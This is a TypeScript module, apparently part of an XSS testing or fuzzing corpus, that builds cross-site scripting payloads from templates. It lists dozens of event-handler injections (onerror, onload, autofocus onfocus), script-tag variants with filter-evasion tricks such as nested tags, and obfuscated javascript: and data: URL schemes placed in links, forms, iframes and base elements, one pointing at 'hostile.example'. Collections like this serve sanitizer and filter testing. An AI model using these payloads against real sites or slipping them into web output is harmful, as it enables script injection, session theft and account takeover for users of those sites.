import { bodiesOf, type Deed } from './vector.ts';

/* Bodies that act by attributes, elements and addresses of the HTML standard, as WHATWG names them. */

/** Elements with a handler of an event that comes by itself, or by a touch. */
const handled = [
  (js: string) => `<img src=x onerror="${js}">`,
  (js: string) => `<IMG SRC=x ONERROR="${js}">`,
  (js: string) => `<img/src=x/onerror="${js}">`,
  (js: string) => `<img src=x\nonerror\n=\n"${js}">`,
  (js: string) => `<img src=x\fonerror=${js}>`,
  (js: string) => `<img src="x"onerror="${js}">`,
  (js: string) => `<img src=x onerror=&#102;etch${js.slice(5)}>`,
  (js: string) => `<img src=x alt="a" alt="b" onerror="${js}" onerror="1">`,
  (js: string) => `<svg onload="${js}"></svg>`,
  (js: string) => `<svg/onload=${js}>`,
  (js: string) => `<body onload="${js}" onpageshow="${js}">`,
  (js: string) => `<iframe onload="${js}"></iframe>`,
  (js: string) => `<object data=x onerror="${js}"></object>`,
  (js: string) => `<embed src=x onload="${js}">`,
  (js: string) => `<video onerror="${js}"><source src=x></video>`,
  (js: string) => `<video><source src=x onerror="${js}"></video>`,
  (js: string) => `<audio src=x onerror="${js}">`,
  (js: string) => `<style onload="${js}"></style>`,
  (js: string) => `<link rel=stylesheet href=x onerror="${js}">`,
  (js: string) => `<input autofocus onfocus="${js}">`,
  (js: string) => `<select autofocus onfocus="${js}"><option>1</select>`,
  (js: string) => `<textarea autofocus onfocus="${js}"></textarea>`,
  (js: string) => `<p tabindex=1 autofocus onfocus="${js}">字</p>`,
  (js: string) => `<p contenteditable autofocus onfocus="${js}">字</p>`,
  (js: string) => `<details open ontoggle="${js}"><summary>字</summary>文</details>`,
  (js: string) => `<marquee onstart="${js}">字</marquee>`,
  (js: string) => `<dialog open oncancel="${js}" onclose="${js}">字</dialog>`,
  (js: string) => `<p onmouseover="${js}" onpointerenter="${js}" onclick="${js}">字</p>`,
  (js: string) => `<p style="animation:x 1s" onanimationstart="${js}">字</p><style>@keyframes x{}</style>`,
  (js: string) => `<p popover onbeforetoggle="${js}">字</p><button popovertarget=x>字</button>`,
  (js: string) => `<form oninput="${js}" onsubmit="${js}"><input><button>字</button></form>`,
  (js: string) => `<a href="#" onfocus="${js}" onclick="${js}">字</a>`,
];

export const handlers = bodiesOf(
  'handler',
  handled.map(
    (html) =>
      ({ js }: Deed) =>
        html(js),
  ),
);

export const scripts = bodiesOf('script', [
  ({ js }) => `<script>${js}</script>`,
  ({ js }) => `<SCRIPT>${js}</SCRIPT>`,
  ({ js }) => `<script\n>${js}</script\n>`,
  ({ js }) => `<script/x>${js}</script/x>`,
  ({ js }) => `<script type=module>${js}</script>`,
  ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  ({ js }) => `<script><!--<script>${js}</script>-->${js}</script>`,
  ({ js }) => `<<script>${js}//<</script>`,
  ({ url }) => `<script src="${url}"></script>`,
  ({ url }) => `<script type=module src="${url}"></script>`,
  ({ url }) => `<script async defer src="${url}"></script>`,
  ({ url }) => `<script type=importmap>{"imports":{"a":"${url}"}}</script><script type=module>import 'a'</script>`,
  ({ url }) => `<script type=speculationrules>{"prefetch":[{"urls":["${url}"]}]}</script>`,
  ({ js }) => `<script src="data:text/javascript,${js}"></script>`,
  ({ js }) => `<script>${js}`,
  ({ js }) => `</p><script>${js}</script><p>`,
  ({ js }) => `<script language=vbscript>${js}</script><script for=window event=onload>${js}</script>`,
]);

/** Ways of writing the scheme of a script, as URL parsers read them: blanks, controls and references are passed over. */
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'java&#x09;script:',
  'java&Tab;script:',
  '&#106;avascript:',
  '&#x6A&#x61vascript:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript://%0a',
  'feed:javascript:',
  'view-source:javascript:',
  'jar:javascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'data:application/xhtml+xml,',
  'blob:http://hostile.example/',
];

export const addresses = bodiesOf('address', [
  ...schemes.map(
    (scheme) =>
      ({ js }: Deed) =>
        `<p><a href="${scheme}${js}">字</a><img src="${scheme}${js}"></p>`,
  ),
  ({ js }) => `<form action="javascript:${js}"><button>字</button></form>`,
  ({ js }) =>
    `<form><button formaction="javascript:${js}">字</button><input type=image formaction="javascript:${js}"></form>`,
  ({ js }) => `<map name=m><area shape=default href="javascript:${js}"></map><img usemap=#m src=x>`,
  ({ js }) => `<iframe src="javascript:${js}"></iframe>`,
  ({ js }) => `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
  ({ js }) => `<base href="javascript:${js}//"><a href="#">字</a>`,
  ({ js }) => `<a href="javascript:${js}" target=_blank rel=opener>字</a>`,
  ({ js }) => `<blockquote cite="javascript:${js}">字</blockquote><q cite="javascript:${js}">字</q>`,
]);
